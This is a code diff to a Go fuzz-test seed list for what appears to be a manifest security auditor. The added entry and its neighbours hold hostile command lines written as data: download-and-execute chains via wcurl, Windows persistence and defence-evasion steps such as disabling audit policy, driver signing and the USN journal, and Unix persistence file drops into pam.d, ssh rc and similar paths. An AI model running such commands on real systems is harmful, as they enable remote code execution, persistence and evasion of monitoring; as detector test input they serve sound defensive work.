@@ -379,6 +379,7 @@ var fuzzSeeds = [][]string{
 	{"sh", "-c", "msedge --headless --dump-dom https://a; firefox --screenshot http://[::1]:8/b; librewolf -P c; chromium 'https://'; zen-browser --headless https://d"},
 	{"cmd", "/c", `reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\a.exe" /v Debugger /d b & reg add HKCU\\Environment /v UserInitMprLogonScript /d c & netsh add helper d.dll & netsh interface portproxy add v4tov4 listenport=1 connectaddress=e & netsh interface portproxy set v4tov4 listenaddress=127.0.0.1 & bcdedit /set testsigning on & bcdedit /set nointegritychecks & fltmc unload f & auditpol /set /success:disable & auditpol /remove & fsutil usn deletejournal /d g:`},
 	{"sh", "-c", "defaults write com.apple.loginwindow LogoutHook /a; cp b /etc/periodic/daily/; cp c /etc/emond.d/rules; tee -a /etc/update-motd.d/d; cp e /etc/udev/rules.d/; cp f /etc/NetworkManager/dispatcher.d/; cp g /etc/apt/apt.conf.d/; cp h /etc/pam.d/; cp i /etc/ld.so.conf.d/; echo j >> ~/.ssh/rc; cp k ~/.config/fish/conf.d/; cp l ~/.jupyter/jupyter_lab_config.py; cp m ~/.docker/cli-plugins/; cp n /usr/share/dbus-1/services/; cp o /srv/init/p"},
+	{"sh", "-c", "wcurl https://a/b.sh && sh b.sh; wcurl -o c http://d && ./c; wcurl --output=/usr/local/bin/e https://f && e; wcurl -O; wcurl --curl-options; wcurl --curl-options='-k' https://g/ https://h/i.tgz && tar xf i.tgz && ./i/j"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
